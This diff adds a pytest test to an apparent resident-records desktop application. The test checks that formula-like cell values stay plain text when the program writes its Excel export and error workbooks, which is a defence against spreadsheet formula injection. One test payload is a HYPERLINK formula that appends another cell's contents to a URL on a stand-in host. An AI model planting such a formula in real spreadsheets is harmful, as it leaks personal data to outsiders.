@@ -238,3 +238,32 @@ def test_imported_residents_are_found_by_their_pinyin_initials(township_db, tmp_
 
     people_excel.import_file(township_db, workbook(tmp_path, row(id_number=id_for(1), name="欧阳晓明")))
     assert len(residents.resident_ids(township_db, ResidentFilter(text="oyxm"))) == 1
+
+
+def test_text_that_looks_like_a_formula_is_written_back_as_text(township_db, tmp_path):
+    """A cell holding =HYPERLINK(…) (or +, -, @ in front) is a string when it comes in, and stays a string in every
+    workbook the program writes: the export and the error workbook. Opened in Excel or WPS it is not run."""
+    from desktop.services import files
+
+    payloads = ['=HYPERLINK("http://example.invalid/?"&F2,"点此")', "+1+1", "-2+3", "@SUM(A1)"]
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADERS)
+    rows = [row(id_number=id_for(i + 1), notes=p, address=p) for i, p in enumerate(payloads)]
+    rows.append(row(id_number=id_for(9), village="不存在村", notes=payloads[0]))
+    for r, values in enumerate(rows, start=2):
+        for c, value in enumerate(values, start=1):
+            files.set_text(ws.cell(r, c), value)  # typed in as text, as a spreadsheet holds it
+    source = tmp_path / "in.xlsx"
+    wb.save(source)
+    result = people_excel.import_file(township_db, source, only_valid=True)
+    assert result.added == len(payloads)
+    people_excel.export(township_db, tmp_path / "out.xlsx")
+    out = load_workbook(tmp_path / "out.xlsx").active
+    header = [c.value for c in out[1]]
+    notes = [out.cell(r, header.index("备注") + 1) for r in range(2, out.max_row + 1)]
+    assert sorted(c.value for c in notes) == sorted(payloads)
+    assert all(c.data_type == "s" for c in notes)
+    errors = load_workbook(result.error_workbook).active
+    note = errors.cell(2, 2 + HEADERS.index("备注") + 1)
+    assert note.value == payloads[0] and note.data_type == "s"
